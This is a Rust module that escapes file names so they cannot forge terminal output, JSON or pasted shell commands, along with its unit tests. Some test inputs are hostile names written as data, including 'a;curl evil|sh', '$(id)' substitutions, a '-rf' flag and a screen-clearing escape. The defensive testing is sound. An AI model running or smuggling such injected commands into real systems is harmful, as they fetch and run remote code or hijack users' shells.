//! Names on a terminal: whatever bytes a name holds, the line that shows it cannot be forged.
//!
//! Control characters, characters that reorder or hide text, and bytes that are no UTF-8 come out as escapes. A
//! backslash is doubled, so that two names never look the same.

use std::path::Path;

/// Returns a name for the terminal, and for the `path` of JSON when it is not UTF-8.
pub fn bytes(name: &[u8]) -> String {
    let mut out = String::with_capacity(name.len());
    for chunk in name.utf8_chunks() {
        push(&mut out, chunk.valid(), true);
        for byte in chunk.invalid() {
            out.push_str(&format!("\\x{byte:02x}"));
        }
    }
    out
}

/// Returns text for the terminal; as [`bytes`], for what is UTF-8 already.
pub fn text(name: &str) -> String {
    bytes(name.as_bytes())
}

/// Returns a path for the terminal.
pub fn path(path: &Path) -> String {
    bytes(path.as_os_str().as_encoded_bytes())
}

/// Returns text in which only what a terminal must not see is escaped; a backslash stays.
///
/// For sentences of our own that hold names escaped before.
pub fn controls(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    push(&mut out, text, false);
    out
}

/// Returns a path as a word of a command that somebody may paste into a shell: whatever it is called, nothing but the path.
pub fn shell(path: &Path) -> String {
    let bytes = path.as_os_str().as_encoded_bytes();
    // No flag, wherever it stands.
    let dash = if bytes.starts_with(b"-") { "./" } else { "" };
    let plain = |char: char| char.is_alphanumeric() || "_./,:@+-".contains(char);
    match path.to_str() {
        Some(text) if !text.is_empty() && text.chars().all(plain) => format!("{dash}{text}"),
        Some(text) if text == controls(text) => format!("'{dash}{}'", text.replace('\'', r"'\''")),
        // As bash, zsh and ksh have it: all but letters and digits by their bytes.
        _ => {
            let mut word = format!("$'{dash}");
            for byte in bytes {
                match byte {
                    b' '..=b'~' if !matches!(byte, b'\'' | b'\\') => word.push(char::from(*byte)),
                    _ => word.push_str(&format!("\\x{byte:02x}")),
                }
            }
            word.push('\'');
            word
        }
    }
}

/// Adds a name to a record as its `path`; one that is not UTF-8 escaped, and exactly in `path_b64`.
pub fn json_path(record: &mut serde_json::Value, path: &[u8]) {
    json_name(record, "path", path);
}

/// Does the same under another name of a field.
pub fn json_name(record: &mut serde_json::Value, field: &str, name: &[u8]) {
    match std::str::from_utf8(name) {
        Ok(name) => record[field] = name.into(),
        Err(_) => {
            record[field] = bytes(name).into();
            record[format!("{field}_b64")] = data_encoding::BASE64.encode(name).into();
        }
    }
}

/// Escapes, in serialized JSON, the characters that would fool a terminal; the value stays the same.
pub fn json(serialized: &str) -> String {
    let mut out = String::with_capacity(serialized.len());
    for char in serialized.chars() {
        // Such characters occur only inside strings, where \u stands for them.
        if is_unsafe(char) {
            for unit in char.encode_utf16(&mut [0; 2]) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            out.push(char);
        }
    }
    out
}

fn push(out: &mut String, text: &str, backslash: bool) {
    let mut before = None;
    for char in text.chars() {
        match char {
            '\\' if backslash => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            _ if char.is_ascii_control() => out.push_str(&format!("\\x{:02x}", u32::from(char))),
            _ if is_unsafe(char) || is_stray_selector(before, char) => {
                out.push_str(&format!("\\u{{{:x}}}", u32::from(char)));
            }
            _ => out.push(char),
        }
        before = Some(char);
    }
}

/// A variation selector belongs behind a symbol; behind anything else it is only an invisible difference.
fn is_stray_selector(before: Option<char>, char: char) -> bool {
    matches!(char, '\u{fe00}'..='\u{fe0f}') && before.is_none_or(|before| before < '\u{2000}')
}

/// Characters that move the cursor, reorder text, end lines or show nothing.
fn is_unsafe(char: char) -> bool {
    char.is_control()
        || matches!(char,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_nothing_but_the_path() {
        use std::os::unix::ffi::OsStrExt as _;

        let names = [
            &b"flights"[..],
            b"./a b",
            b"a;curl evil|sh",
            b"$(id) `id` \"x\" *?[a] ~ # !",
            b"it's",
            b"-rf",
            b"-r f",
            b"",
            b"a\nb\\'\x1b[2J",
            b"\xff\xfe",
            "müsli \u{202e}txt".as_bytes(),
            b"=ls",
        ];
        for name in names {
            let word = shell(Path::new(std::ffi::OsStr::from_bytes(name)));
            assert!(!word.chars().any(is_unsafe), "{word:?}");
            let mut given = name.to_vec();
            if name.starts_with(b"-") {
                given.splice(..0, *b"./");
            }
            let script = format!("printf %s {word}");
            let output = std::process::Command::new("bash").args(["-c", &script]).output();
            if let Ok(output) = output {
                assert_eq!(output.stdout, given, "{word}");
            }
        }
    }

    #[test]
    fn names_come_out_as_the_table_says() {
        let table: &[(&[u8], &str)] = &[
            (b"plain.txt", "plain.txt"),
            (b"with space", "with space"),
            ("größe 日本".as_bytes(), "größe 日本"),
            (b"a\nb", "a\\nb"),
            (b"a\tb\rc", "a\\tb\\rc"),
            (b"\x1b[2J", "\\x1b[2J"),
            (b"\x00\x07\x7f", "\\x00\\x07\\x7f"),
            (b"back\\slash", "back\\\\slash"),
            (b"latin\xe9", "latin\\xe9"),
            (b"\xff\xfe", "\\xff\\xfe"),
            (b"half\xe2\x82", "half\\xe2\\x82"),
            ("c1\u{9b}31m".as_bytes(), "c1\\u{9b}31m"),
            ("exe\u{202e}txt".as_bytes(), "exe\\u{202e}txt"),
            ("zero\u{200b}width".as_bytes(), "zero\\u{200b}width"),
            ("bom\u{feff}".as_bytes(), "bom\\u{feff}"),
            ("line\u{2028}end".as_bytes(), "line\\u{2028}end"),
            ("tag\u{e0041}".as_bytes(), "tag\\u{e0041}"),
            ("a\u{fe0f}".as_bytes(), "a\\u{fe0f}"),
            ("❤\u{fe0f}".as_bytes(), "❤\u{fe0f}"),
            (b"-rf", "-rf"),
            (b"", ""),
        ];
        for (name, shown) in table {
            assert_eq!(bytes(name), *shown, "{name:?}");
        }
    }

    #[test]
    fn no_two_short_names_look_the_same() {
        let alphabet: &[&[u8]] = &[b"\\", b"n", b"\n", b"x", b"0", b"a", b"\x0a", b"\xff", b"{"];
        let mut seen = std::collections::BTreeMap::new();
        for a in alphabet {
            for b in alphabet {
                for c in alphabet {
                    let name = [*a, *b, *c].concat();
                    if let Some(other) = seen.insert(bytes(&name), name.clone()) {
                        assert_eq!(other, name);
                    }
                }
            }
        }
    }

    #[test]
    fn escaped_json_means_the_same() {
        let name = "a\u{202e}\u{9b}\u{7f}\u{e0041}\n\"\\";
        let escaped = json(&serde_json::to_string(name).expect("strings serialize"));
        assert!(escaped.chars().all(|char| !is_unsafe(char)), "{escaped}");
        let back: String = serde_json::from_str(&escaped).expect("escaped JSON is JSON");
        assert_eq!(back, name);
    }
}
